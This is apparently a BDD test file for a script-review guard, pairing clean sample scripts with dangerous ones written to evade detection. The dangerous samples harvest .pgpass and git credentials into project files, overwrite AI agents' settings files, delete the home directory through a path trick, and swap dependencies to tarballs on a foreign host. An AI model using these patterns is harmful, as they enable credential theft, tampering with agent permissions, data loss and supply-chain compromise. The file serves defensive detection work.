@script-review
Feature: script pre-review follows lists read back, defaults, relative paths and package tarballs
  A file the script wrote with lines it spells is what a later read loop over it reads back. A
  credential from the user's store written into a file of the project is harvested there. A
  `:=` default of a variable the script set empty is what the variable holds without the
  option. `path.relative` of two known paths is the way between them. A package tarball on a
  foreign host set into a manifest's section installs from there.

  Scenario: a read loop over a list the script wrote copies a credential file away
    Given a project file "collect.sh" containing:
      """
      #!/usr/bin/env bash
      set -eu
      WORK="$(mktemp -d)"
      list="$WORK/wanted"
      printf '%s\n' .config/editor/prefs.json .pgpass >"$list"
      while read -r f; do
        [[ -f "$HOME/$f" ]] || continue
        mkdir -p "$WORK/out/$(dirname "$f")"
        cp "$HOME/$f" "$WORK/out/$f"
      done <"$list"
      tar -czf report.tgz -C "$WORK" out
      """
    When I run "terraphim-agent guard review-script --json collect.sh"
    Then the JSON field "verdict" is "dangerous"

  Scenario: the same read loop over the project's own files is clean
    Given a project file "collect.sh" containing:
      """
      #!/usr/bin/env bash
      set -eu
      WORK="$(mktemp -d)"
      list="$WORK/wanted"
      printf '%s\n' README.md docs/index.md >"$list"
      while read -r f; do
        [[ -f "$f" ]] || continue
        mkdir -p "$WORK/out/$(dirname "$f")"
        cp "$f" "$WORK/out/$f"
      done <"$list"
      tar -czf report.tgz -C "$WORK" out
      """
    When I run "terraphim-agent guard review-script --json collect.sh"
    Then the JSON field "verdict" is "clean"

  Scenario: a credential helper's answers appended to a file of the project
    Given a project file "prime.sh" containing:
      """
      #!/usr/bin/env bash
      set -eu
      mkdir -p var/prime
      for h in src.example.org mirror.example.net; do
        printf 'protocol=https\nhost=%s\n\n' "$h" | git credential fill >>var/prime/known.txt
      done
      """
    When I run "terraphim-agent guard review-script --json prime.sh"
    Then the JSON field "verdict" is "dangerous"
    And the JSON field "findings.0.rule" is "secret-to-project-file"

  Scenario: the project's own settings copied into a file of the project only read a secret
    Given a project file "snap.py" containing:
      """
      from pathlib import Path
      Path("var").mkdir(exist_ok=True)
      Path("var/settings-copy.txt").write_text(Path(".env").read_text())
      """
    When I run "terraphim-agent guard review-script --json snap.py"
    Then the JSON field "verdict" is "suspicious"

  Scenario: the rest of a destructured line of a credential file written into a fixture
    Given a project file "dump.ts" containing:
      """
      import { readFileSync, writeFileSync } from "node:fs";
      import os from "node:os";
      import path from "node:path";
      function rows(text: string): Record<string, string> {
        const out: Record<string, string> = {};
        for (const line of text.split("\n")) {
          const [who, ...rest] = line.split(":");
          out[who] = rest.join(":");
        }
        return out;
      }
      const got = rows(readFileSync(path.join(os.homedir(), ".pgpass"), "utf8"));
      writeFileSync("spec/data/pg-rows.json", JSON.stringify(got));
      """
    When I run "terraphim-agent guard review-script --json dump.ts"
    Then the JSON field "verdict" is "dangerous"
    And the JSON field "findings.0.rule" is "secret-to-project-file"

  Scenario: an object used as a string is the path its primitive method returns
    Given a project file "hook.js" containing:
      """
      const fs = require('fs');
      const os = require('os');
      const path = require('path');
      const dest = {
        kind: process.env.DEST_KIND || 'home',
        [Symbol.toPrimitive]() {
          const top = this.kind === 'repo' ? process.cwd() : os.homedir();
          return path.join(top, '.claude', 'settings.json');
        },
      };
      fs.writeFileSync(`${dest}`, JSON.stringify({ permissions: { allow: [] } }));
      """
    When I run "terraphim-agent guard review-script --json hook.js"
    Then the JSON field "verdict" is "dangerous"

  Scenario: an object whose toString names a build file is clean
    Given a project file "hook.js" containing:
      """
      const fs = require('fs');
      const path = require('path');
      const dest = {
        name: 'summary',
        toString() {
          return path.join('build', this.name + '.json');
        },
      };
      fs.mkdirSync('build', { recursive: true });
      fs.writeFileSync(`${dest}`, '{}');
      """
    When I run "terraphim-agent guard review-script --json hook.js"
    Then the JSON field "verdict" is "clean"

  Scenario: a := default known in part names an agent's settings file
    Given a project file "wire.sh" containing:
      """
      #!/usr/bin/env bash
      set -eu
      TARGET=""
      top() { printf '%s' "${XDG_DATA_HOME:-$HOME}"; }
      fallback() { printf '%s/.gemini/settings.json' "$(top | sed 's#/.local/share$##')"; }
      while getopts ':t:' o; do
        case "$o" in
          t) TARGET="$OPTARG" ;;
          *) exit 2 ;;
        esac
      done
      : "${TARGET:=$(fallback)}"
      printf '{}\n' >"$TARGET"
      """
    When I run "terraphim-agent guard review-script --json wire.sh"
    Then the JSON field "verdict" is "dangerous"

  Scenario: a := default in the project's build directory is clean
    Given a project file "wire.sh" containing:
      """
      #!/usr/bin/env bash
      set -eu
      TARGET=""
      while getopts ':t:' o; do
        case "$o" in
          t) TARGET="$OPTARG" ;;
          *) exit 2 ;;
        esac
      done
      : "${TARGET:=build/wired.json}"
      mkdir -p build
      printf '{}\n' >"$TARGET"
      """
    When I run "terraphim-agent guard review-script --json wire.sh"
    Then the JSON field "verdict" is "clean"

  Scenario: a cache entry joined from a relative path that climbs to the home is deleted
    Given a project file "wipe.js" containing:
      """
      const fs = require('fs');
      const os = require('os');
      const path = require('path');
      const cache = path.join(os.homedir(), '.cache');
      for (const e of ['babel', path.relative(cache, os.homedir())]) {
        fs.rmSync(path.join(cache, e), { recursive: true, force: true });
      }
      """
    When I run "terraphim-agent guard review-script --json wipe.js"
    Then the JSON field "verdict" is "dangerous"

  Scenario: a relative path inside the project joined back under it is clean
    Given a project file "wipe.js" containing:
      """
      const fs = require('fs');
      const path = require('path');
      const root = path.resolve(__dirname, '..');
      const rel = path.relative(root, path.join(root, 'out', 'cache'));
      fs.rmSync(path.join(root, rel), { recursive: true, force: true });
      """
    When I run "terraphim-agent guard review-script --json wipe.js"
    Then the JSON field "verdict" is "clean"

  Scenario: tarballs on a foreign host set into a section a helper was handed
    Given a project file "repin.ts" containing:
      """
      import { readFileSync, writeFileSync } from "node:fs";
      const SRC = { host: "pkg-drops.example.net" };
      function drop(name: string): string {
        return `https://${SRC.host}/builds/${name}-0.9.4.tgz`;
      }
      function swap(section: Record<string, string>): void {
        for (const name of Object.keys(section)) section[name] = drop(name);
      }
      const pkg = JSON.parse(readFileSync("package.json", "utf8"));
      swap(pkg.devDependencies);
      writeFileSync("package.json", JSON.stringify(pkg, null, 2));
      """
    When I run "terraphim-agent guard review-script --json repin.ts"
    Then the JSON field "verdict" is "dangerous"
    And the JSON field "findings.0.rule" is "dependency-source"

  Scenario: the same section pinned to exact versions is clean
    Given a project file "repin.ts" containing:
      """
      import { readFileSync, writeFileSync } from "node:fs";
      function exact(section: Record<string, string>): void {
        for (const name of Object.keys(section)) section[name] = section[name].replace(/^[~^]/, "");
      }
      const pkg = JSON.parse(readFileSync("package.json", "utf8"));
      exact(pkg.devDependencies);
      writeFileSync("package.json", JSON.stringify(pkg, null, 2));
      """
    When I run "terraphim-agent guard review-script --json repin.ts"
    Then the JSON field "verdict" is "clean"
